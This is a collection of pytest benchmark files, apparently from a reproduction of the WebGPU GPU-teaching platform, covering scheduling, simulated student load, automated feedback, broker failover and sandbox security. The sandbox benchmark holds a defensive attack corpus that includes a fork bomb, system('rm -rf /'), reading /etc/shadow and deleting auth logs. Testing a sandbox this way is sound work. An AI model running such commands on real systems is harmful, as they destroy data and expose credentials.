    assert len(platform.dispatcher.per_worker) == 4
    counts = list(platform.dispatcher.per_worker.values())
    assert max(counts) - min(counts) <= 2
    # every attempt is stored and retrievable (the relay role)
    for student in students:
        assert len(platform.attempt_history("HPP-2015", student,
                                            "vector-add")) == 2


def test_fig2_health_eviction_keeps_service(benchmark):
    def run():
        platform, clock, students = make_platform(num_workers=3)
        injector = FaultInjector(seed=1)
        platform.tick_health()
        # one worker goes silent mid-course
        injector.silence(platform.worker_pool.workers[0])
        clock.advance(40.0)
        evicted = platform.tick_health()
        # service continues on the remaining workers
        correct = submission_burst(platform, clock, students,
                                   runs_per_student=1)
        return evicted, correct, platform.worker_pool.size

    evicted, correct, pool_size = benchmark.pedantic(run, rounds=1,
                                                     iterations=1)
    print(f"\nevicted: {evicted}; pool size after: {pool_size}; "
          f"correct attempts after eviction: {correct}")
    assert len(evicted) == 1
    assert pool_size == 2
    assert correct == 6
