"""Figure 1: active students per hour, Feb 8 -- Apr 15 2015.

Published shape: weekly spikes every Wednesday (the Thursday-deadline
rush), a maximum of 112 active students (Feb 18), a minimum of 8
(Apr 9), and overall decline as participation drops through the
offering.
"""

import numpy as np
from conftest import print_table

from repro.simulate import HPP_2015, StudentPopulation
from repro.simulate.metrics import spike_day_of_week, weekly_profile


def test_fig1_active_students_per_hour(benchmark):
    population = StudentPopulation(HPP_2015.figure1_population_params())
    result = benchmark.pedantic(population.generate, rounds=1, iterations=1)
    series = result.hourly_active

    daily_max = series.daily_max()
    weekly = series.weekly_totals()
    rows = [{
        "week": w + 1,
        "active_students": result.active_per_week[w],
        "peak_hourly": int(series.counts[w * 168:(w + 1) * 168].max()),
    } for w in range(min(10, len(weekly)))]
    print_table("Figure 1 — weekly summary of hourly active students", rows)
    print(f"peak hourly actives : {series.peak} (paper: 112)")
    print(f"late-course trough  : {daily_max[7:].min()} (paper: 8)")
    print(f"spike day of week   : {spike_day_of_week(series)} "
          f"(Wednesday = 3 with a Sunday start; deadline Thursday = 4)")

    # the Wednesday rush: the day before the Thursday deadline peaks
    assert spike_day_of_week(series) == 3
    # published extremes, within sampling tolerance
    assert 90 <= series.peak <= 140
    assert 2 <= daily_max[7:].min() <= 20
    # the peak happens early in the course (paper: Feb 18, week 2)
    assert series.peak_hour < 3 * 168
    # monotone weekly decline in participation
    actives = result.active_per_week
    assert all(a >= b for a, b in zip(actives, actives[1:]))
    # variation within a week dwarfs the deadline-day concentration of
    # a flat profile: Wednesday carries > 25% of the weekly activity
    profile = weekly_profile(series).reshape(7, 24).sum(axis=1)
    assert profile[3] / profile.sum() > 0.25
    # and the quietest day carries well under half the rush day
    assert profile.min() < 0.5 * profile[3]
