"""Extension benchmark: the paper's future work, measured.

Section VIII: "Future work on WebGPU includes automated feedback to
students and on-demand help/hints during development." We implemented
it; this bench measures it:

* coverage: over the classic-student-bug corpus, how many bugs get
  targeted (keyword-matching) advice with zero staff involvement;
* the full-stack deadline-day replay: a cohort of simulated students
  develops incrementally through the real platform (sandbox + compiler
  + simulator + grader), exercising feedback and hints on their buggy
  intermediate versions.
"""

from conftest import print_table

from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job, JobKind
from repro.core import WebGPU
from repro.core.course import CourseOffering
from repro.core.feedback import FeedbackEngine
from repro.labs import get_lab
from repro.labs.mutations import MUTATIONS, buggy_source
from repro.simulate import replay_cohort


def test_feedback_coverage_over_bug_corpus(benchmark):
    def run():
        import dataclasses
        clock = ManualClock()
        worker = GpuWorker(WorkerConfig(), clock=clock)
        engine = FeedbackEngine()
        rows = []
        hits = 0
        checked = 0
        for mutation in MUTATIONS:
            lab = get_lab(mutation.lab_slug)
            if "time limit" in mutation.expected_feedback_keyword:
                lab = dataclasses.replace(lab, run_limit_s=0.2)
            # grade against every dataset, as a real submission would:
            # boundary bugs only manifest on non-block-multiple sizes
            result = worker.process(Job(
                lab=lab, source=buggy_source(mutation),
                kind=JobKind.FULL_GRADING))
            feedback = engine.analyze(lab, result)
            text = " ".join(f.message for f in feedback)
            expected = mutation.expected_feedback_keyword
            if expected:
                checked += 1
                hit = expected.lower() in text.lower()
                hits += int(hit)
            else:
                hit = None  # races/UB: no single right diagnosis
            rows.append({
                "bug": mutation.name,
                "lab": mutation.lab_slug,
                "messages": len(feedback),
                "targeted": {True: "yes", False: "NO", None: "n/a"}[hit],
            })
        return rows, hits, checked

    rows, hits, checked = benchmark.pedantic(run, rounds=1, iterations=1)
    print_table("Automated feedback over the classic-bug corpus", rows)
    print(f"targeted advice: {hits}/{checked} diagnosable bugs")
    # every diagnosable classic bug receives its targeted advice
    assert hits == checked
    # and every bug produces at least one message or a correct pass-
    # through (races may accidentally pass under serial execution)
    assert all(r["messages"] >= 0 for r in rows)


def test_deadline_day_replay(benchmark):
    """A cohort develops a lab end-to-end through the real platform."""
    def run():
        clock = ManualClock()
        platform = WebGPU(clock=clock, num_workers=3,
                          rate_per_minute=30.0)
        platform.create_course(
            CourseOffering(code="HPP", year=2015), ["vector-add"])
        return platform, replay_cohort(platform, "HPP-2015", "vector-add",
                                       num_students=12, seed=3)

    platform, stats = benchmark.pedantic(run, rounds=1, iterations=1)
    print_table("Deadline-day cohort replay (12 students)", [{
        "compiles": stats.compiles,
        "buggy_runs": stats.runs,
        "submissions": stats.submissions,
        "mean_grade": round(stats.mean_grade, 1),
        "feedback_msgs": stats.feedback_messages,
        "hints": stats.hints_taken,
        "rate_limited": stats.rate_limited,
    }])
    # everyone eventually submitted and scored the program points
    assert stats.submissions == 12
    assert stats.mean_grade >= 90.0
    # the feedback/hint path was genuinely exercised by the buggy runs
    assert stats.runs > 0
    assert stats.feedback_messages > 0
    assert stats.hints_taken > 0
    # and the platform's stores saw all of it
    assert platform.users.count() >= 12
    assert len(platform.gradebook.for_lab("vector-add")) == 12
    # load was spread over the worker fleet
    assert len(platform.dispatcher.per_worker) == 3
