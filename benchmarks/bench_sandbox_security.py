"""Section III-D: the security stack under attack and benign load.

* an attack corpus (inline asm, process spawning, file/network escape
  attempts, sandbox-dir escapes, runaway loops) must be contained by
  some layer — blacklist, seccomp whitelist, write confinement, or the
  watchdog;
* the benign corpus (all fifteen reference solutions) must pass;
* the raw-text vs post-preprocessor blacklist ablation: raw scanning
  false-positives on innocent comments, exactly the nuisance the paper
  accepted.
"""

import dataclasses

from conftest import print_table

from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job, JobKind
from repro.labs import ALL_LABS, get_lab
from repro.sandbox import BlacklistScanner, ScanMode

VECADD = get_lab("vector-add")


def _patch(marker: str, replacement: str) -> str:
    return VECADD.solution.replace(marker, replacement)


HOOK = 'wbLog(TRACE, "The input length is ", inputLength);'

ATTACKS = {
    "inline-asm": _patch("out[i] = in1[i] + in2[i];", 'asm("syscall");'),
    "fork-bomb": _patch(HOOK, "while (1) { fork(); }"),
    "shell-escape": _patch(HOOK, 'system("rm -rf /");'),
    "read-secrets": _patch(HOOK, 'fopen("/etc/shadow", "r");'),
    "network-exfil": _patch(HOOK, "socket(2, 1, 0); connect(0, 0, 0);"),
    "unlink-files": _patch(HOOK, 'remove("/var/log/auth.log");'),
    "cpu-burn": _patch(HOOK, "while (1) { inputLength = inputLength; }"),
}

#: which layer is expected to stop each attack
EXPECTED_LAYER = {
    "inline-asm": "blacklisted",
    "fork-bomb": "blacklisted",
    "shell-escape": "blacklisted",
    "read-secrets": "syscall_killed",
    "network-exfil": "syscall_killed",
    "unlink-files": "syscall_killed",
    "cpu-burn": "run_timeout",
}


def classify(worker, source):
    lab = dataclasses.replace(VECADD, run_limit_s=0.2)
    result = worker.process(Job(lab=lab, source=source,
                                kind=JobKind.RUN_DATASET))
    if not result.compile_ok:
        if "blacklisted" in result.compile_message:
            return "blacklisted"
        return "compile_error"
    return result.datasets[0].outcome


def test_attack_corpus_contained(benchmark):
    def run():
        clock = ManualClock()
        worker = GpuWorker(WorkerConfig(), clock=clock)
        return {name: classify(worker, source)
                for name, source in ATTACKS.items()}

    outcomes = benchmark.pedantic(run, rounds=1, iterations=1)
    rows = [{"attack": name, "stopped_by": outcome,
             "expected": EXPECTED_LAYER[name],
             "ok": "yes" if outcome == EXPECTED_LAYER[name] else "NO"}
            for name, outcome in outcomes.items()]
    print_table("Attack corpus vs the Section III-D security stack", rows)

    for name, outcome in outcomes.items():
        assert outcome == EXPECTED_LAYER[name], (name, outcome)
    # not a single attack produced an "ok" run
    assert "ok" not in outcomes.values()


def test_benign_corpus_all_pass(benchmark):
    """False-negative check: every legitimate reference solution runs
    to completion under the same policies."""
    def run():
        clock = ManualClock()
        worker = GpuWorker(WorkerConfig(
            tags=frozenset({"cuda", "opencl", "mpi"}), num_gpus=4),
            clock=clock)
        passed = 0
        for lab in ALL_LABS:
            result = worker.process(Job(lab=lab, source=lab.solution,
                                        kind=JobKind.RUN_DATASET))
            passed += int(result.compile_ok
                          and all(d.correct for d in result.datasets))
        return passed

    passed = benchmark.pedantic(run, rounds=1, iterations=1)
    print(f"\nbenign corpus: {passed}/{len(ALL_LABS)} labs pass the sandbox")
    assert passed == len(ALL_LABS)


def test_blacklist_mode_ablation(benchmark):
    """Raw scanning flags innocent comments (false positives the paper
    tolerated); post-preprocessor scanning does not, at identical
    true-positive coverage on real calls."""
    commented = _patch(HOOK, "// remember: never call fork() here")
    real_attack = ATTACKS["shell-escape"]

    def run():
        raw = BlacklistScanner(mode=ScanMode.RAW)
        pre = BlacklistScanner(mode=ScanMode.PREPROCESSED)
        return {
            "raw_flags_comment": bool(raw.scan(commented)),
            "pre_flags_comment": bool(pre.scan(commented)),
            "raw_flags_attack": bool(raw.scan(real_attack)),
            "pre_flags_attack": bool(pre.scan(real_attack)),
        }

    outcome = benchmark.pedantic(run, rounds=3, iterations=1)
    print_table("Blacklist scan-mode ablation", [outcome])
    assert outcome["raw_flags_comment"] is True      # the paper's nuisance
    assert outcome["pre_flags_comment"] is False     # the fix
    assert outcome["raw_flags_attack"] is True
    assert outcome["pre_flags_attack"] is True       # no lost coverage
