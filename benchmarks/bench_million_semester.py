"""Million-student semester: sharded fabric vs the single-queue broker.

Scales the paper's deadline storm (Fig. 1: "the spikes correspond
to the 5 lab deadlines") far past the original deployment: tens of
thousands to a million simulated students all hitting the platform in
the hour before a deadline. Two configurations replay the *same*
arrival trace on the same simulated hardware budget:

* **baseline** — the single zone-replicated ``MessageBroker``:
  one RPC per publish/poll/ack, raw-depth additive autoscaling, every
  job admitted no matter how far the queue has fallen behind;
* **fabric** — the ``BrokerFabric``: consistent-hash shards keyed by
  ``(course, lab)``, batched publish/poll/ack (one round-trip per pump
  tick instead of per job), SLO-burn multiplicative autoscaling, and
  deadline-aware admission (grading > runs > previews). Mid-storm,
  every shard's primary replica is crashed once — replica failover
  must hand the storm to the standbys without losing a job.

The data plane is synthetic (queueing simulation on ``ManualClock``
with an explicit per-round-trip cost, so the baseline's per-job
chattiness spends real worker capacity) but the control plane is the
real production code: ``JobQueue`` delivery state, ``BrokerFabric``
routing/failover, ``SLOBurnMeter``, ``SLOBurnPolicy``, and
``AdmissionController``.

Acceptance (per size):
* fabric loses **0 jobs** despite one primary-replica crash per shard;
* fabric sheds **0 submit-for-grading jobs**;
* fabric clears the semester at a **higher simulated jobs/sec** and a
  **lower p95 queue wait** than the baseline.

Results for every size land in ``BENCH_million_semester.json``.

Direct use: ``python benchmarks/bench_million_semester.py [--smoke|--full]``
(needs ``PYTHONPATH=src``). Under pytest, ``WEBGPU_BENCH_FAST=1`` is
the smoke sizing and ``WEBGPU_BENCH_FULL=1`` adds the million-student
point. ``WEBGPU_TRACE_OUT=path.jsonl`` writes the fabric run's spans
(including every ``shard.failover`` event) as the CI trace artifact.
"""

import heapq
import json
import os
import random
import sys

from repro.broker import DeliveryPolicy, MessageBroker
from repro.cluster import ManualClock, SLOBurnPolicy
from repro.cluster.job import Job, JobKind
from repro.fabric import BrokerFabric, SLOBurnMeter, SLOPolicy
from repro.labs import get_lab
from repro.telemetry import QUEUE_WAIT_SECONDS, Telemetry, write_jsonl

VECADD = get_lab("vector-add")
CUDA = frozenset({"cuda"})
FAST = bool(os.environ.get("WEBGPU_BENCH_FAST"))
FULL = bool(os.environ.get("WEBGPU_BENCH_FULL"))
TRACE_OUT = os.environ.get("WEBGPU_TRACE_OUT")
OUT_PATH = os.path.join(os.path.dirname(__file__), "..",
                        "BENCH_million_semester.json")

STUDENT_SIZES = ([2_000] if FAST else [10_000, 100_000])
if FULL:
    STUDENT_SIZES.append(1_000_000)

JOBS_PER_STUDENT = 3
TICK_S = 5.0                     # one pump tick of simulated time
RPC_COST_S = 0.05                # simulated broker round-trip
MEAN_SERVICE_S = 0.3             # simulated grading service time
NUM_SHARDS = 4
BATCH = 16
COURSES = 20
HOT_COURSES = 3                  # courses whose deadline is *now*
MIN_WORKERS = 4
KIND_MIX = ((JobKind.FULL_GRADING, 0.30), (JobKind.RUN_DATASET, 0.45),
            (JobKind.COMPILE_ONLY, 0.25))
POLICY = DeliveryPolicy(visibility_timeout_s=60.0, max_attempts=5,
                        backoff_base_s=0.5, backoff_cap_s=10.0)
SLO = SLOPolicy(queue_wait_p95_slo_s=30.0, sample_interval_s=TICK_S)


def semester_params(students: int) -> tuple[float, int]:
    """Size the storm so the deadline peak genuinely oversubscribes
    the fleet: the window is chosen so *average* demand is ~60% of the
    full fleet's zero-overhead capacity: ~85% at zero overhead, which
    the baseline's two round-trips per job push past 100% — the linear
    ramp's peak (2x average) oversubscribes both configurations, and
    they differ in how fast they scale into the backlog, how cheaply
    they serve it, and what they shed to protect the deadline class.
    Returns ``(storm_seconds, max_workers)``."""
    jobs = students * JOBS_PER_STUDENT
    max_workers = max(MIN_WORKERS, min(256, jobs // 2000))
    storm_s = jobs * MEAN_SERVICE_S / (0.85 * max_workers)
    storm_s = max(storm_s, 40 * TICK_S)      # enough ticks to ramp
    return storm_s, max_workers


def arrival_trace(students: int, storm_s: float, seed: int = 42):
    """The deadline storm: per-tick job batches, identical for both
    configurations. ~70% of traffic is the hot courses' deadline rush,
    ramping linearly into the deadline at the end of the window."""
    rng = random.Random(seed)
    total_jobs = students * JOBS_PER_STUDENT
    ticks = int(storm_s / TICK_S)
    # linear ramp: weight of tick i proportional to (i + 1)
    weights = [i + 1 for i in range(ticks)]
    scale = total_jobs / sum(weights)
    kinds, cum = [], 0.0
    thresholds = []
    for kind, p in KIND_MIX:
        cum += p
        kinds.append(kind)
        thresholds.append(cum)
    trace = []
    emitted = 0
    for i in range(ticks):
        n = int(weights[i] * scale)
        if i == ticks - 1:
            n = total_jobs - emitted
        emitted += n
        batch = []
        for _ in range(n):
            roll = rng.random()
            kind = next(k for k, t in zip(kinds, thresholds) if roll <= t)
            if rng.random() < 0.7:
                course = f"course-{rng.randrange(HOT_COURSES)}"
            else:
                course = f"course-{rng.randrange(HOT_COURSES, COURSES)}"
            batch.append((course, kind, rng.expovariate(1 / MEAN_SERVICE_S)))
        trace.append(batch)
    return trace


def make_job(course, kind, now):
    return Job(lab=VECADD, source="", kind=kind, course=course,
               submitted_at=now)


class SyntheticFleet:
    """Workers as time budgets: each worker spends TICK_S simulated
    seconds per tick on round-trips and service, so fewer round-trips
    per job buys real throughput."""

    def __init__(self, size: int, max_workers: int):
        self.size = size
        self.max_workers = max_workers
        self.peak = size
        self.rpcs = 0

    def resize(self, target: int) -> None:
        self.size = max(MIN_WORKERS, min(self.max_workers, target))
        self.peak = max(self.peak, self.size)


def run_baseline(students: int, trace, max_workers: int) -> dict:
    """Single queue, per-job RPCs, additive depth scaling."""
    clock = ManualClock()
    telemetry = Telemetry(clock=clock)
    broker = MessageBroker(policy=POLICY, telemetry=telemetry)
    fleet = SyntheticFleet(MIN_WORKERS, max_workers)
    service = {}
    published = completed = 0
    last_scale = -1e9

    def worker_tick(now):
        nonlocal completed
        done = 0
        budget = TICK_S
        while budget > 0:
            budget -= RPC_COST_S                 # the poll round-trip
            fleet.rpcs += 1
            polled = broker.poll(CUDA, 1, now)
            if polled is None:
                break
            job, _wait = polled
            budget -= service[job.job_id]
            budget -= RPC_COST_S                 # the ack round-trip
            fleet.rpcs += 1
            broker.ack(job.job_id, now=now)
            done += 1
        return done

    tick = 0
    drain_ticks = 0
    while True:
        now = tick * TICK_S
        clock.set(now)
        arrivals = trace[tick] if tick < len(trace) else []
        for course, kind, service_s in arrivals:
            job = make_job(course, kind, now)
            service[job.job_id] = service_s
            broker.publish(job, now)             # one RPC per job
            fleet.rpcs += 1
            published += 1
        for _ in range(fleet.size):
            completed += worker_tick(now)
        broker.expire_leases(now)
        # legacy scaling: raw depth, one worker per cooldown
        if now - last_scale >= 30.0:
            if broker.depth() > 100 and fleet.size < fleet.max_workers:
                fleet.resize(fleet.size + 1)
                last_scale = now
            elif broker.depth() == 0 and fleet.size > MIN_WORKERS:
                fleet.resize(fleet.size - 1)
                last_scale = now
        tick += 1
        if tick >= len(trace):
            if broker.depth() == 0 and broker.in_flight_count == 0:
                break
            drain_ticks += 1
            if drain_ticks > 20_000:
                break
    wait_hist = telemetry.metrics.get(QUEUE_WAIT_SECONDS)
    sim_seconds = tick * TICK_S
    return {
        "mode": "baseline",
        "students": students,
        "published": published,
        "completed": completed,
        "shed_preview": 0, "shed_run": 0, "shed_grade": 0,
        "dead_lettered": len(broker.dead_letters()),
        "lost": published - completed - len(broker.dead_letters()),
        "sim_seconds": sim_seconds,
        "jobs_per_sec": round(completed / sim_seconds, 2),
        "p95_queue_wait_s": round(wait_hist.merged().quantile(0.95), 2)
        if wait_hist else 0.0,
        "peak_workers": fleet.peak,
        "rpcs": fleet.rpcs,
        "rpcs_saved": 0,
        "shard_failovers": 0,
    }


def run_fabric(students: int, trace, max_workers: int) -> dict:
    """Sharded fabric: batched I/O, SLO-burn scaling, admission
    control, and one primary-replica crash per shard mid-storm."""
    clock = ManualClock()
    telemetry = Telemetry(clock=clock, tracing=bool(TRACE_OUT))
    fabric = BrokerFabric(num_shards=NUM_SHARDS, policy=POLICY,
                          telemetry=telemetry, slo=SLO)
    meter = SLOBurnMeter(telemetry, SLO)
    burn_policy = SLOBurnPolicy(min_workers=MIN_WORKERS,
                                max_workers=max_workers, cooldown_s=30.0)
    admission = fabric.admission
    fleet = SyntheticFleet(MIN_WORKERS, max_workers)
    service = {}
    published = completed = 0
    shed = {"grade": 0, "run": 0, "preview": 0}
    deferred: list = []           # (due_time, seq, job) heap
    seq = 0
    # one primary-replica loss per shard, spread across the worst of
    # the storm (70%..85% of the way into the window)
    crash_ticks = {int(len(trace) * (0.70 + 0.05 * i)): f"shard-{i}"
                   for i in range(NUM_SHARDS)}

    def worker_tick(now, crash_shard=None):
        nonlocal completed
        done = 0
        budget = TICK_S
        while budget > 0:
            budget -= RPC_COST_S                 # one poll round-trip
            fleet.rpcs += 1
            polled = fabric.poll_batch(CUDA, 1, now, max_jobs=BATCH)
            if not polled:
                break
            if crash_shard is not None:
                # the node leased a batch, then the shard's primary
                # died: failover re-seats the in-flight deliveries and
                # this node's acks go stale — at-least-once redelivers
                fabric.crash_shard(crash_shard, now)
                crash_shard = None
                continue
            for job, _wait in polled:
                budget -= service[job.job_id]
            budget -= RPC_COST_S                 # one ack round-trip
            fleet.rpcs += 1
            fabric.ack_batch([j.job_id for j, _ in polled], now=now)
            done += len(polled)
        return done, crash_shard

    tick = 0
    drain_ticks = 0
    while True:
        now = tick * TICK_S
        clock.set(now)
        arrivals = trace[tick] if tick < len(trace) else []
        batch = []
        for course, kind, service_s in arrivals:
            job = make_job(course, kind, now)
            service[job.job_id] = service_s
            decision = admission.decide(job, now)
            if decision.action == "shed":
                shed[decision.klass] += 1
            elif decision.action == "defer":
                # the web tier holds the job and retries after the
                # decision's delay — deferred work is not queue depth
                seq += 1
                heapq.heappush(deferred,
                               (now + decision.delay_s, seq, job))
            else:
                batch.append(job)
        while deferred and deferred[0][0] <= now:
            _, _, job = heapq.heappop(deferred)
            batch.append(job)
        if batch:
            placed = fabric.publish_batch(batch, now)
            fleet.rpcs += len(placed)            # one RPC per shard hit
            published += len(batch)
        crash = crash_ticks.get(tick)
        for _ in range(fleet.size):
            done, crash = worker_tick(now, crash_shard=crash)
            completed += done
        if crash is not None:                    # no worker polled it
            fabric.crash_shard(crash, now)
        fabric.expire_leases(now)
        if meter.due(now):
            sample = meter.sample(
                now, stalled_wait_s=fabric.queue.oldest_wait(now))
            admission.observe_burn(sample.burn, now)
            decision = burn_policy.target_workers(now, sample.burn,
                                                  fleet.size)
            fleet.resize(decision.target)
        tick += 1
        if tick >= len(trace):
            if (fabric.depth() == 0 and fabric.in_flight_count == 0
                    and not deferred):
                break
            drain_ticks += 1
            if drain_ticks > 20_000:
                break
    if TRACE_OUT:
        count = write_jsonl(telemetry.tracer.spans, TRACE_OUT)
        print(f"\nwrote {count} span(s) to {TRACE_OUT}")
    wait_hist = telemetry.metrics.get(QUEUE_WAIT_SECONDS)
    io = fabric.io_savings()
    sim_seconds = tick * TICK_S
    return {
        "mode": "fabric",
        "students": students,
        "published": published,
        "completed": completed,
        "shed_preview": shed["preview"],
        "shed_run": shed["run"],
        "shed_grade": shed["grade"],
        "dead_lettered": len(fabric.dead_letters()),
        "lost": published - completed - len(fabric.dead_letters()),
        "sim_seconds": sim_seconds,
        "jobs_per_sec": round(completed / sim_seconds, 2),
        "p95_queue_wait_s": round(wait_hist.merged().quantile(0.95), 2)
        if wait_hist else 0.0,
        "peak_workers": fleet.peak,
        "rpcs": fleet.rpcs,
        "rpcs_saved": int(sum(op["saved"] for op in io.values())),
        "shard_failovers": len(fabric.failovers),
    }


def run_semester(students: int) -> dict:
    storm_s, max_workers = semester_params(students)
    trace = arrival_trace(students, storm_s)
    baseline = run_baseline(students, trace, max_workers)
    fabric = run_fabric(students, trace, max_workers)
    return {"students": students, "storm_seconds": storm_s,
            "max_workers": max_workers,
            "baseline": baseline, "fabric": fabric}


def check(result: dict) -> None:
    baseline, fabric = result["baseline"], result["fabric"]
    # nothing accepted is ever lost — not even across 4 shard crashes
    assert fabric["lost"] == 0, fabric
    assert fabric["shard_failovers"] == NUM_SHARDS
    assert fabric["dead_lettered"] == 0, fabric
    assert baseline["lost"] == 0, baseline
    # grading submissions are never shed
    assert fabric["shed_grade"] == 0, fabric
    # the fabric beats the single queue on both headline numbers
    assert fabric["jobs_per_sec"] > baseline["jobs_per_sec"], \
        (fabric["jobs_per_sec"], baseline["jobs_per_sec"])
    assert fabric["p95_queue_wait_s"] < baseline["p95_queue_wait_s"], \
        (fabric["p95_queue_wait_s"], baseline["p95_queue_wait_s"])
    assert fabric["rpcs_saved"] > 0


def write_report(results: list[dict]) -> None:
    with open(OUT_PATH, "w") as fh:
        json.dump({"sizes": results}, fh, indent=2)
        fh.write("\n")


def main(sizes=None) -> list[dict]:
    try:
        from conftest import print_table
    except ImportError:          # direct invocation from the repo root
        sys.path.insert(0, os.path.dirname(__file__))
        from conftest import print_table
    results = []
    order = ["mode", "published", "completed", "lost", "dead_lettered",
             "shed_grade", "shed_run", "shed_preview", "jobs_per_sec",
             "p95_queue_wait_s", "peak_workers", "rpcs", "rpcs_saved",
             "shard_failovers", "sim_seconds"]
    for students in sizes or STUDENT_SIZES:
        result = run_semester(students)
        check(result)
        results.append(result)
        print_table(
            f"Deadline storm, {students:,} students "
            f"({students * JOBS_PER_STUDENT:,} jobs, "
            f"{NUM_SHARDS} shard crashes on the fabric run)",
            [result["baseline"], result["fabric"]], order=order)
    write_report(results)
    print(f"\nwrote {OUT_PATH}")
    return results


def test_million_semester(benchmark):
    benchmark.pedantic(main, rounds=1, iterations=1)


if __name__ == "__main__":
    if "--smoke" in sys.argv:
        main(sizes=[2_000])
    elif "--full" in sys.argv:
        main(sizes=[10_000, 100_000, 1_000_000])
    else:
        main()
