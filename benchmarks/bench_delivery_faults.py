"""Delivery-fault ablation: crash storms with and without at-least-once.

Before the leased-delivery rework, a v2 worker crashing between polling
a job and reporting its result silently lost the job — the queue had
already deleted it, and the student waited forever. This benchmark
replays a crash storm through the broker path twice: once with
at-least-once delivery (leases + acks + redelivery) and once in the
legacy delete-on-poll mode, and also drives one poison job (every
delivery crashes its node) into the dead-letter queue.

Acceptance:
* at-least-once: **0 of N jobs lost** despite a node crash mid-job
  every ``CRASH_EVERY`` jobs, and each redelivered job completes
  **exactly once** from the student's perspective;
* legacy mode: exactly **1 job lost per crash** (the bug being fixed);
* the poison job dead-letters after exactly ``max_attempts`` tries with
  the exponential backoff delays recorded in its failure history.

Set ``WEBGPU_BENCH_FAST=1`` for the CI smoke-test sizing. Set
``WEBGPU_TRACE_OUT=path.jsonl`` to run the at-least-once storm with
tracing enabled and write every span (including the ``lease.expired``
and ``redelivery`` fault spans) as JSONL — CI uploads this file as the
build's trace artifact.
"""

import os

from conftest import print_table

from repro.broker import (
    ConfigServer,
    ContainerPool,
    DeliveryPolicy,
    MessageBroker,
    WorkerDriver,
)
from repro.broker.containers import CUDA_IMAGE
from repro.cluster import FaultInjector, GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job, JobKind
from repro.db import Database
from repro.labs import get_lab
from repro.telemetry import Telemetry, write_jsonl

VECADD = get_lab("vector-add")
FAST = bool(os.environ.get("WEBGPU_BENCH_FAST"))
TRACE_OUT = os.environ.get("WEBGPU_TRACE_OUT")

JOBS = 12 if FAST else 48
CRASH_EVERY = 6            # every 6th job kills the node serving it
POLICY = DeliveryPolicy(visibility_timeout_s=10.0, max_attempts=3,
                        backoff_base_s=0.5, backoff_cap_s=30.0)
# enough spare capacity that the storm never runs out of workers
NUM_WORKERS = JOBS // CRASH_EVERY + 2


def make_driver(broker, clock, metrics, name):
    worker = GpuWorker(WorkerConfig(), clock=clock, name=name)
    return WorkerDriver(worker, broker,
                        ContainerPool([CUDA_IMAGE], warm_per_image=1),
                        ConfigServer(), metrics, clock=clock)


def pump(drivers, broker, clock, max_steps=1000):
    """Drive pull loops to quiescence, advancing simulated time across
    lease expiries and redelivery backoffs (mirrors WebGPU2.pump)."""
    results = []
    steps = 0
    while steps < max_steps:
        progressed = False
        for driver in drivers:
            result = driver.step()
            steps += 1
            if result is not None:
                results.append(result)
                progressed = True
        if progressed:
            continue
        now = clock.now()
        changed = bool(broker.expire_leases(now))
        wake = broker.next_wakeup(now)
        if wake is not None:
            clock.set(max(now, wake))
            broker.expire_leases(clock.now())
        elif not changed:
            break
    return results


def crash_storm(at_least_once: bool) -> dict:
    clock = ManualClock()
    # tracing is opt-in (WEBGPU_TRACE_OUT) on the at-least-once run so
    # the CI artifact includes the lease-expiry/redelivery fault spans
    telemetry = (Telemetry(clock=clock, tracing=True)
                 if TRACE_OUT and at_least_once else None)
    broker = MessageBroker(policy=POLICY, at_least_once=at_least_once,
                           telemetry=telemetry)
    metrics = Database("metrics")
    mode = "alo" if at_least_once else "amo"
    drivers = [make_driver(broker, clock, metrics, f"{mode}-w{i}")
               for i in range(NUM_WORKERS)]
    injector = FaultInjector()

    deliveries: dict[int, int] = {}     # job_id -> completed results
    crashes = 0
    for n in range(JOBS):
        job = Job(lab=VECADD, source=VECADD.solution,
                  kind=JobKind.RUN_DATASET, user=f"student-{n}",
                  submitted_at=clock.now())
        broker.publish(job, clock.now())
        if (n + 1) % CRASH_EVERY == 0:
            # the first alive driver is the one that will poll this job
            victim = next(d.worker for d in drivers if d.worker.alive)
            injector.crash_mid_job(victim)
            crashes += 1
        for result in pump(drivers, broker, clock):
            deliveries[result.job_id] = deliveries.get(result.job_id, 0) + 1
        clock.advance(1.0)

    stats = broker.queue.stats
    if telemetry is not None and TRACE_OUT:
        count = write_jsonl(telemetry.tracer.spans, TRACE_OUT)
        print(f"\nwrote {count} span(s) to {TRACE_OUT}")
    return {
        "mode": "at-least-once" if at_least_once else "at-most-once",
        "jobs": JOBS,
        "crashes": crashes,
        "completed": len(deliveries),
        "lost": JOBS - len(deliveries) - len(broker.dead_letters()),
        "duplicates": sum(1 for c in deliveries.values() if c > 1),
        "redelivered": stats.redelivered,
        "expired_leases": stats.expired_leases,
    }


def poison_run() -> dict:
    """One job whose every delivery crashes its node: it must park in
    the dead-letter queue after exactly ``max_attempts`` tries."""
    clock = ManualClock()
    broker = MessageBroker(policy=POLICY)
    metrics = Database("metrics")
    drivers = [make_driver(broker, clock, metrics, f"poison-w{i}")
               for i in range(POLICY.max_attempts)]
    injector = FaultInjector()
    for driver in drivers:
        injector.crash_mid_job(driver.worker)

    job = Job(lab=VECADD, source=VECADD.solution, kind=JobKind.RUN_DATASET,
              user="poison-student", submitted_at=clock.now())
    broker.publish(job, clock.now())
    results = pump(drivers, broker, clock)
    return {"job": job, "results": results,
            "dead": broker.dead_letter(job.job_id)}


def test_delivery_fault_storm(benchmark):
    def run():
        return {"alo": crash_storm(at_least_once=True),
                "amo": crash_storm(at_least_once=False),
                "poison": poison_run()}

    out = benchmark.pedantic(run, rounds=1, iterations=1)
    alo, amo, poison = out["alo"], out["amo"], out["poison"]

    print_table(
        f"Crash storm ({JOBS} jobs, a node crash mid-job every "
        f"{CRASH_EVERY} jobs)", [alo, amo],
        order=["mode", "jobs", "crashes", "completed", "lost",
               "duplicates", "redelivered", "expired_leases"])

    # at-least-once: zero lost, each job completes exactly once
    assert alo["lost"] == 0
    assert alo["completed"] == JOBS
    assert alo["duplicates"] == 0
    assert alo["redelivered"] >= alo["crashes"]
    assert alo["expired_leases"] >= alo["crashes"]

    # legacy delete-on-poll: one job vanishes per crash (the bug)
    assert amo["lost"] == amo["crashes"] > 0
    assert amo["redelivered"] == 0

    # poison job: dead-lettered after exactly max_attempts deliveries,
    # with the exponential backoff delays on record
    assert poison["results"] == []
    dead = poison["dead"]
    assert dead is not None
    assert poison["job"].delivery.attempts == POLICY.max_attempts
